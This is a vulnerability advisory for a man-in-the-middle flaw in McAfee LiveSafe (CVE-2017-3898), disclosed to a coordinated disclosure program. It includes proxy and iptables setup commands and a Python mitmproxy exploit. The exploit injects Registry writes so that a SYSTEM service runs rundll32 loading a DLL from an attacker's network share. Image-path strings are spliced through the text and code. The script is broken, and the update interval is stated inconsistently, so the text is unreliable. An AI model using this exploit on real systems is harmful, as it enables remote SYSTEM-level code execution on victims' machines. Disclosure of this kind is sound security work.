SSD Advisory – McAfee LiveSafe MiTM Registry Modification leading to Remote Command Execution

Vulnerabilities Summary
The following advisory describes a Remote Command Execution found in McAfee McAfee LiveSafe (MLS) versions prior to 16.0.3. The vulnerability allows network attackers to modify the Windows registry value associated with the McAfee update via the HTTP backend-response.
McAfee Security Scan Plus is a free diagnostic tool that ensures you are protected from threats by actively checking your computer for up-to-date anti-virus, firewall, and web security software. It also scans for threats in any open programs.
An independent security research company, Silent Signal, has reported this vulnerability to Beyond Security’s SecuriTeam Secure Disclosure program.
Vendor response
The vendor has released patches to address this vulnerability.
For more information:
CVE: CVE-2017-3898

Vulnerabilities Details
An active network attacker can achieve remote code execution in multiple McAfee products. Affected products retrieve configuration data over plaintext HTTP channel from the URL (where COUNTRY is a two letter country identifier, e.g. “uk”).
The response body contains XML formatted data, similar to the following:

<webservice-response response-version="1.0" frequency="168"
<reg key="HKLM\SOFTWARE\McAfee\MSC\Settings\InProductTransaction"
name="enable" type="REG_DWORD" value="1" obfuscate="0"/>

The response describes a Registry modification with the reg tags under the webservice-response/update path.
This request and subsequent update is triggered automatically, first upon the installation of the software then after the number of hours indicated by the frequency attribute of the webservice-request node (168 minutes by default).
The update is executed by the PlatformServiceFW.dll of the McSvHost.exe process by invoking the mcsvrcnt.exe program with the /update argument. The McSvHost.exe processis running with SYSTEM privileges that is inherited by mcsvrcnt.exe that implements the Registry change.
As a result active network attackers can modify the server responses to write the Registry of the target with SYSTEM privileges.
Proof of Concept
The exploit runs as a proxy that intercepts and modifies plaintext HTTP requests and responses. Since the target software performs certificate validation for HTTPS services it’s important to let these connections pass through without modification.
In regular HTTP proxy mode this can be achieved by using the `–ignore` command line parameter of mitmproxy:

mitmproxy -s --ignore '.*'

In case of transparent proxy mode the above parameter should not be provided:

mitmproxy -s –T

For transparent proxy mode the following commands configure NAT and port redirection on common Debian-based Linux distributions (eth0 is the interface visible to the target, eth1 is connected to the internet):

iptables -t nat -A PREROUTING -i eth0 -p tcp \
--dport 80 -j REDIRECT --to 8080
iptables -t nat -A POSTROUTING -o eth1 -j MASQUERADE
sysctl net.ipv4.ip_forward=1

The script looks for the “mscconfig.asp” string in the request URL. If found the XML response body is deserialized, and new reg nodes are added based on the REG variable declared at the beginning of the script. The REG variable is a list of dictionaries, each dictionary containing the following keys:

  • Key – The name of the Registry key to modify (e.g. “HKLM\SYSTEM\CurrentControlSet\Services\mfevtp”,backslashes should be escaped properly for Python)
  • Type – Type of the value to create (e.g. “REG_SZ” for strings)
  • Name – Name of the value to create
  • Value – Value to be created

The exploit also changes the frequency attribute to 1 so re-exploitation can be performed in shorter time (in 1 hour) if needed. After the new nodes are inserted, the resulting object is serialized and put in place of the original response body.
To demonstrate code execution one of the own service entries of the affected McAfee products (mfevtp – McAfee Process Validation Service) was overwritten: the ImagePath value of the HKLM\SYSTEM\CurrentControlSet\Services\mfevtp key was replaced to point the built-in rundll32.exe with an UNC path argument pointing to the attacker host (The payload (test.dll) was served with Metasploit’s smb_delivery module during testing):

The REG variable was declared like the following:

REG=[{"key":"HKLM\\SYSTEM\\CurrentControlSet\\Services\\mfevtp", "type":"REG_SZ","name":"ImagePath", "value":"c:\\windows\\system32\\rundll32.exe \\\\\\pwn\\test.dll,0"},]

In this way SYSTEM level command execution is triggered after the machine is restarted, the exploit was not caught by the McAfee software.

#!/usr/bin/env python3
# HTTP proxy mode:
#  mitmproxy -s --ignore '.*'
# Transparent proxy mode:
#   mitmproxy -s -T --host
from mitmproxy import ctx, http
from lxml import etreeREG=[{"key":"HKLM\\SYSTEM\\CurrentControlSet\\Services\\mfevtp","type":"REG_SZ","name":"ImagePath","value":"c:\\windows\\system32\\rundll32.exe \\\\\\pwn\\test.dll,0"},]
def response(flow):
    if flow.request.scheme == "http" and "mscconfig.asp" in flow.request.url:
            for r in REG:
                reg.set("key", r["key"])
                reg.set("type",r["type"])
                reg.set("obfuscate", "0")
                reg.set("name",r["name"])
                reg.set("value", r["value"])
            ctx.log("[+] [MCREGGELI] Payloadsent")
        except etree.XMLSyntaxError:
            ctx.log("[-] [MCREGGELI] XML deserialization error")


Get in touch